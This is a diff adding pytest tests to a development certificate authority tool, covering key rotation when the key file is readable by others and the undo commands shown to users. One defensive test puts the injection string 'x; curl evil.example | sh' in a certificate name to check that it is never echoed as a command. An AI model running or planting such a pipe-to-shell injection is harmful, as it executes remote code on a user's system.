@@ -12,12 +12,13 @@ from pathlib import Path
 import pytest
 from cryptography import x509
 from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.hazmat.primitives.serialization import Encoding
 
 from bff.devstack.authority import Authority, _write, covers, open_authority
 from bff.devstack.certificates import tls_settings
 from bff.devstack.plan import Plan, make_plan
 from bff.devstack.processes import StackFailed
-from bff.devstack.trust import commands
+from bff.devstack.trust import commands, explanation, this_system
 from bff.tls import Identity, server_context
 from tests.support.stack import free_port
 from tests.support.tls import client_context, handshake
@@ -213,7 +214,35 @@ def test_a_key_that_others_could_read(folder: Path, mode: int) -> None:
     (folder / "authority.key").chmod(mode)
     second = open_authority(folder)
     assert second.name != first.name
+    assert first.former is None
+    assert second.former == first.name
+    assert open_authority(folder).former is None
     assert (folder / "authority.key").stat().st_mode & 0o777 == 0o600
+
+
+def test_who_trusted_the_former_learns_how_to_take_it_back(folder: Path) -> None:
+    """Its key may be in other hands, and nothing else knows its name any more."""
+    first = open_authority(folder)
+    (folder / "authority.key").chmod(0o644)
+    lines = explanation(open_authority(folder))
+    [told] = [line for line in lines if first.name in line]
+    assert (
+        told.strip()
+        == commands(
+            first.name, first.file, this_system(), Path.home(), os.environ.get("XDG_DATA_HOME", "")
+        ).undo
+    )
+    assert first.name not in "".join(explanation(open_authority(folder)))
+
+
+def test_a_strange_name_is_not_shown(folder: Path) -> None:
+    """A file that is not ours must not write a command for a person to run."""
+    authority = open_authority(folder)
+    key = ec.generate_private_key(ec.SECP256R1())
+    names = x509.SubjectAlternativeName([x509.DNSName("localhost")])
+    strange = authority._sign("x; curl evil.example | sh", key, names, datetime.now(UTC))
+    authority.file.write_bytes(strange.public_bytes(Encoding.PEM))
+    assert open_authority(folder).former is None
 
 
 def test_no_key_in_a_repr(folder: Path) -> None:
